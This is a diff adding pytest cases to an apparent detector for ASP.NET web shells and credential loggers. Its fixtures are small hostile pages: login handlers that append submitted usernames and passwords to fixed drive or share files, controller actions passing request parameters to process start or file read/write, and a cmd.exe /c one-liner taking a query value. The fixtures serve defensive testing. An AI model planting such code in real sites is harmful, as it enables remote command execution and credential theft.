@@ -457,3 +457,178 @@ def test_code_assembled_from_the_page_own_text_is_named(case: str, ext: str, pag
 )
 def test_text_spelled_out_or_built_with_names_is_silent(case: str, ext: str, page: str) -> None:
     assert _sinks(page, ext) == set(), case
+
+
+# --- request values written to a file at a fixed drive or share path (session 13's left-over, X26's OWA logger) ---
+
+_LOGON = '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object s, EventArgs e) {\nBODY\n}\n</script>'
+
+HARVEST_FOUND: list[Page] = [
+    (
+        "append-to-programdata",
+        ".aspx",
+        _LOGON.replace(
+            "BODY",
+            '    if (!string.IsNullOrEmpty(Request["n"]))\n'
+            '        System.IO.File.AppendAllText(@"C:\\ProgramData\\Vendor\\cache" + 1, Request.UserHostAddress + "|" + '
+            'Request["u"] + "|" + Request["w"] + Environment.NewLine);',
+        ),
+    ),
+    (
+        "stream-writer",
+        ".aspx",
+        _LOGON.replace(
+            "BODY",
+            '    using (var w = new System.IO.StreamWriter(@"C:\\ProgramData\\Vendor\\cache.dat", true)) {\n'
+            '        w.WriteLine(Request.Form["username"] + ":" + Request.Form["password"]);\n    }',
+        ),
+    ),
+    (
+        "vb-share-from-controls",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Login_Click(s As Object, e As EventArgs)\n'
+        "    Dim u As String = txtUser.Text\n    Dim p As String = txtPass.Text\n"
+        '    System.IO.File.AppendAllText("\\\\files\\share\\l.txt", u & vbTab & p & vbCrLf)\nEnd Sub\n</script>',
+    ),
+    (
+        "under-the-web-root",
+        ".aspx",
+        _LOGON.replace(
+            "BODY",
+            '    System.IO.File.AppendAllText("C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\a.txt", Request.Form["password"]);',
+        ),
+    ),
+]
+HARVEST_QUIET: list[Page] = [
+    (
+        "site-log-and-fixed-text",
+        ".aspx",
+        _LOGON.replace(
+            "BODY",
+            '    System.IO.File.AppendAllText(Server.MapPath("~/App_Data/visits.log"), DateTime.Now + " " + '
+            'Request.Form["username"] + "\\r\\n");\n'
+            '    System.IO.File.AppendAllText(@"C:\\logs\\app.log", DateTime.Now + " page shown\\r\\n");',
+        ),
+    ),
+    (
+        "configured-folder",
+        ".aspx",
+        _LOGON.replace(
+            "BODY",
+            '    System.IO.File.AppendAllText(System.IO.Path.Combine(Settings.LogFolder, "audit.log"), Request.Form["username"]);',
+        ),
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), HARVEST_FOUND, ids=[c[0] for c in HARVEST_FOUND])
+def test_request_values_dropped_at_a_fixed_drive_path_are_named(case: str, ext: str, page: str) -> None:
+    assert "request-harvest" in _sinks(page, ext), case
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), HARVEST_QUIET, ids=[c[0] for c in HARVEST_QUIET])
+def test_site_logs_and_fixed_texts_are_silent(case: str, ext: str, page: str) -> None:
+    assert _sinks(page, ext) == set(), case
+
+
+# --- MVC / Web API controller actions in code ASP.NET compiles from source (App_Code; session 13's left-over) ------
+
+ACTION_FOUND: list[tuple[str, str, str, str]] = [
+    (
+        "cs-action-runs-its-parameter",
+        ".cs",
+        "using System.Diagnostics; using System.Web.Mvc;\nnamespace Site.Controllers {\n"
+        "    public class ToolsController : Controller {\n"
+        "        public ActionResult Index() { return View(); }\n"
+        "        public ActionResult Ping(string host) {\n"
+        '            var p = Process.Start(new ProcessStartInfo("ping.exe", host) { UseShellExecute = false });\n'
+        '            return Content("started");\n        }\n    }\n}\n',
+        "process",
+    ),
+    (
+        "cs-async-api-action",
+        ".cs",
+        "using System.IO; using System.Threading.Tasks; using System.Web.Http;\n"
+        "public class FilesController : ApiController {\n"
+        "    public async Task<IHttpActionResult> Get(string name) {\n"
+        "        return Ok(await Task.FromResult(File.ReadAllText(name)));\n    }\n}\n",
+        "file-read",
+    ),
+    (
+        "vb-action-writes-its-parameters",
+        ".vb",
+        "Imports System.Web.Mvc\nPublic Class NotesController\n    Inherits Controller\n"
+        "    Public Function Save(path As String, body As String) As ActionResult\n"
+        "        System.IO.File.WriteAllText(path, body)\n"
+        '        Return Content("ok")\n    End Function\nEnd Class\n',
+        "file-write",
+    ),
+]
+ACTION_QUIET: list[Page] = [
+    (
+        "number-parameter-and-non-action",
+        ".cs",
+        "using System.Diagnostics; using System.Web.Mvc;\npublic class ToolsController : Controller {\n"
+        "    public ActionResult Ping(int count) {\n"
+        '        Process.Start(new ProcessStartInfo("ping.exe", "-n " + count + " 127.0.0.1"));\n'
+        '        return Content("started");\n    }\n'
+        "    [NonAction]\n    public void Run(string file) { Process.Start(file); }\n"
+        '    public ActionResult Open() { Run(Server.MapPath("~/tools/report.exe")); return View(); }\n}\n',
+    ),
+    (
+        "not-a-controller",
+        ".cs",
+        "using System.Diagnostics;\npublic class Tools {\n"
+        '    public string Run(string file) { Process.Start(file); return "ok"; }\n}\n',
+    ),
+    (
+        "vb-guid-parameter",
+        ".vb",
+        "Imports System.Web.Mvc\nPublic Class NotesController\n    Inherits Controller\n"
+        "    Public Function Remove(id As Guid) As ActionResult\n"
+        '        System.IO.File.Delete(Server.MapPath("~/App_Data/notes/") & id.ToString() & ".txt")\n'
+        '        Return Content("ok")\n    End Function\nEnd Class\n',
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page", "sink"), ACTION_FOUND, ids=[c[0] for c in ACTION_FOUND])
+def test_controller_action_parameters_are_request_input(case: str, ext: str, page: str, sink: str) -> None:
+    assert sink in _sinks(page, ext), case
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), ACTION_QUIET, ids=[c[0] for c in ACTION_QUIET])
+def test_number_parameters_helpers_and_plain_classes_are_silent(case: str, ext: str, page: str) -> None:
+    assert _sinks(page, ext) == set(), case
+
+
+# --- request input read inside a Task.Run lambda (session 13's left-over: already followed, kept so) -------------
+# (Rock's GetFile.ashx is quiet for another reason: its path is a request name below ~/Content, an application's
+# own download folder - the folder rule, not the lambda.)
+
+TASK_RUN_FOUND: list[tuple[str, str, str, str]] = [
+    (
+        "process-in-task",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object s, EventArgs e) {\n'
+        '    System.Threading.Tasks.Task.Run(() => { System.Diagnostics.Process.Start("cmd.exe", "/c " + '
+        'Request["c"]); }).Wait();\n}\n</script>',
+        "process",
+    ),
+    (
+        "read-in-task",
+        ".ashx",
+        _HANDLER.replace(
+            "BODY",
+            '        string rel = context.Request.QueryString["f"];\n'
+            "        System.Threading.Tasks.Task.Run(() => {\n"
+            "            context.Response.BinaryWrite(System.IO.File.ReadAllBytes(rel));\n        }).Wait();",
+        ),
+        "file-read",
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page", "sink"), TASK_RUN_FOUND, ids=[c[0] for c in TASK_RUN_FOUND])
+def test_request_read_inside_a_task_lambda_is_followed(case: str, ext: str, page: str, sink: str) -> None:
+    assert sink in _sinks(page, ext), case
